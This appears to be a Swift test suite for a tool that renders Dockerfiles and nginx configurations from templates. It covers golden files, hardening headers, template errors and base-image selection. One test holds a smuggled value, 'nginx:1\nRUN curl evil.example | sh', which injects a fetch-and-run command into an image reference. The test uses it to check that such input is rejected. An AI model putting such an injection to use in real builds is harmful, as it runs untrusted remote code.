import Foundation
import Testing
@testable import BerthCore

@Suite("Templates")
struct TemplateTests {
    static let repositoryRoot = URL(fileURLWithPath: #filePath).deletingLastPathComponent()
        .deletingLastPathComponent().deletingLastPathComponent()
    static let templates = TemplateSet(directory: repositoryRoot.appendingPathComponent("templates").path)
    static let goldenDirectory = URL(fileURLWithPath: #filePath).deletingLastPathComponent()
        .appendingPathComponent("Golden")

    struct Case: Sendable, CustomTestStringConvertible {
        var golden: String
        var server: ServerKind
        var spa: Bool
        var errorPage: String?
        var rules = SiteRules()
        var testDescription: String { golden }
    }

    /// Every kind of rule once: the golden file shows what each renders to.
    static var everyRule: SiteRules {
        get throws {
            SiteRules(
                redirects: try RedirectsFile(text: """
                    /old            /new
                    /blog/:year/*   /posts/:year/:splat.html  302
                    /ext            https://example.com:8443/x   308
                    /app/*          /index.html   200
                    /gone           /closed.html  404
                    /now            /then         307!
                    """, file: "_redirects"),
                headers: try HeadersFile(text: """
                    /assets/*
                      Cache-Control: public, max-age=31536000, immutable
                      X-Robots-Tag: noindex
                    /*
                      Content-Security-Policy: default-src 'self'; img-src * {x}
                      ! X-Frame-Options
                    """, file: "_headers"),
                basicAuth: try SiteConfig(yaml: """
                    basic_auth:
                      - path: /private/
                        users:
                          ann: "$6$saltstring$svn8UoSVapNtMuq1ukKS4tPQd8iKwSMHWjl/O817G3uBnIFNjnQJuesI68u4OTLiBFdcbYEdFCoEOfaS35inz1"
                      - path: /private/admin
                        users:
                          bob: "$6$saltstring$svn8UoSVapNtMuq1ukKS4tPQd8iKwSMHWjl/O817G3uBnIFNjnQJuesI68u4OTLiBFdcbYEdFCoEOfaS35inz1"
                    """).basicAuth,
                cleanURLs: true, precompress: true)
        }
    }

    static let cases = [
        Case(golden: "nginx-default", server: .nginx, spa: false, errorPage: "404.html"),
        Case(golden: "nginx-spa", server: .nginx, spa: true, errorPage: nil),
        Case(golden: "python", server: .python, spa: false, errorPage: nil),
        Case(golden: "nginx-rules", server: .nginx, spa: false, errorPage: "404.html", rules: (try? everyRule) ?? SiteRules()),
    ]

    /// After an intended template change, `scripts/update-golden` rewrites the golden files from what this test
    /// renders (it sets BERTH_GOLDEN_OUTPUT, where the test writes its rendering); the test itself never passes
    /// by rewriting them.
    @Test("renders the golden files", arguments: cases)
    func golden(_ testCase: Case) throws {
        let values = TemplateValues(baseImage: testCase.server.defaultBaseImage, port: 8080,
                                    user: testCase.server.runAsUser, spa: testCase.spa,
                                    errorPage: try testCase.errorPage.map(SiteFilePath.init(parsing:)),
                                    imageLabels: SiteIdentity(user: "ann", site: "blog").imageLabels(server: testCase.server),
                                    rules: testCase.rules)
        let files = try Self.templates.render(server: testCase.server, values: values) + testCase.rules.htpasswdFiles
        #expect(files.first?.name == "Dockerfile")
        let rendered = files.map { "=== \($0.name)\n\($0.contents)" }.joined(separator: "\n")
        let goldenFile = Self.goldenDirectory.appendingPathComponent(testCase.golden + ".txt")
        if let output = ProcessInfo.processInfo.environment["BERTH_GOLDEN_OUTPUT"], !output.isEmpty {
            try rendered.write(toFile: output + "/" + testCase.golden + ".txt", atomically: true, encoding: .utf8)
        }
        let expected = try String(contentsOf: goldenFile, encoding: .utf8)
        #expect(rendered == expected)
        #expect(!rendered.contains("&amp;") && !rendered.contains("&quot;") && !rendered.contains("&#"))
        #expect(!rendered.contains("{{"))
    }

    @Test("the nginx configuration holds the hardening the issue asks for")
    func nginxHardening() throws {
        let values = TemplateValues(baseImage: try ImageReference(parsing: "x"), port: 8080, user: "101:101", spa: false,
                                    errorPage: try SiteFilePath(parsing: "404.html"),
                                    imageLabels: SiteIdentity(user: "ann", site: "blog").imageLabels(server: .nginx))
        let files = try Self.templates.render(server: .nginx, values: values)
        let config = try #require(files.first { $0.name == "nginx.conf" }).contents
        for line in ["pid /tmp/nginx.pid;", "listen 8080", "server_tokens off;", "gzip on;",
                     "add_header X-Content-Type-Options $berth_header_2 always;",
                     "map $uri $berth_header_2 {\n        volatile;\n        default \"nosniff\";", "add_header Referrer-Policy",
                     "add_header X-Frame-Options", "error_page 404 /404.html;", "include /etc/nginx/mime.types;", "absolute_redirect off;"] {
            #expect(config.contains(line), "nginx.conf lacks \(line)")
        }
        let dockerfile = try #require(files.first).contents
        #expect(dockerfile.contains("USER 101:101"))
        #expect(dockerfile.contains("FROM x\nLABEL berth.server=\"nginx\" berth.site=\"blog\" berth.user=\"ann\"\n"),
                "the labels that never change are one step, right after FROM, so that it is cached")
    }

    @Test("a template naming a value berth does not provide fails instead of rendering empty text")
    func missingValue() throws {
        let directory = try TemporarySite()
        try directory.write("nginx/Dockerfile.mustache", "{{%CONTENT_TYPE: TEXT}}\nFROM {{baseImage}}\nRUN {{colour}}\n")
        let values = TemplateValues(baseImage: try ImageReference(parsing: "x"), port: 8080, user: "1", spa: false,
                                    errorPage: nil, imageLabels: [:])
        #expect(throws: TemplateError.missingValues(template: "nginx/Dockerfile.mustache", names: ["colour"])) {
            try TemplateSet(directory: directory.path).render(server: .nginx, values: values)
        }
    }

    @Test("every template must be plain text, so that && and quotes are never HTML-escaped")
    func plainTextPragma() throws {
        let directory = try TemporarySite()
        try directory.write("nginx/Dockerfile.mustache", "FROM {{baseImage}}\nRUN a && b\n")
        let values = TemplateValues(baseImage: try ImageReference(parsing: "x"), port: 8080, user: "1", spa: false,
                                    errorPage: nil, imageLabels: [:])
        #expect(throws: TemplateError.self) {
            try TemplateSet(directory: directory.path).render(server: .nginx, values: values)
        }
        try directory.write("nginx/Dockerfile.mustache", "{{%CONTENT_TYPE: TEXT}}\nFROM {{baseImage}}\nRUN a && \"b\"\n{{>_extra}}")
        try directory.write("nginx/_extra.mustache", "{{%CONTENT_TYPE: TEXT}}\nRUN c && '{{user}}'\n")
        let files = try TemplateSet(directory: directory.path).render(server: .nginx, values: values)
        #expect(files.map(\.name) == ["Dockerfile"])
        #expect(files[0].contents == "FROM x\nRUN a && \"b\"\nRUN c && '1'\n")
    }

    @Test("a missing partial is an error naming it")
    func missingPartial() throws {
        let directory = try TemporarySite()
        try directory.write("nginx/Dockerfile.mustache", "{{%CONTENT_TYPE: TEXT}}\n{{> _nowhere }}\n")
        let values = TemplateValues(baseImage: try ImageReference(parsing: "x"), port: 8080, user: "1", spa: false,
                                    errorPage: nil, imageLabels: [:])
        #expect(throws: TemplateError.missingPartial(template: "nginx/Dockerfile.mustache", partial: "_nowhere")) {
            try TemplateSet(directory: directory.path).render(server: .nginx, values: values)
        }
    }

    @Test("base image: flag, else environment, else the official image")
    func baseImageChoice() throws {
        let mine = try ImageReference(parsing: "mine:1")
        #expect(try ServerKind.nginx.baseImage(override: mine, environment: ["BERTH_NGINX_IMAGE": "env:1"]) == mine)
        #expect(try ServerKind.nginx.baseImage(override: nil, environment: ["BERTH_NGINX_IMAGE": "env:1"]).description
            == "env:1")
        #expect(try ServerKind.python.baseImage(override: nil, environment: ["BERTH_NGINX_IMAGE": "env:1"])
            == ServerKind.python.defaultBaseImage)
        #expect(ServerKind.python.defaultBaseImage.description == "python:3.12-alpine")
    }

    @Test("a base image from the environment that is not an image reference is refused, naming the variable")
    func baseImageFromEnvironmentChecked() {
        for (server, variable) in [(ServerKind.nginx, "BERTH_NGINX_IMAGE"), (.python, "BERTH_PYTHON_IMAGE")] {
            let hostile = "nginx:1\nRUN curl evil.example | sh"
            #expect {
                try server.baseImage(override: nil, environment: [variable: hostile])
            } throws: { error in
                guard let error = error as? ImageReferenceError else { return false }
                return error.source == variable && error.value == hostile && error.reason.contains("newline")
                    && error.description.contains(variable) && !error.description.contains("\n")
            }
        }
    }
}
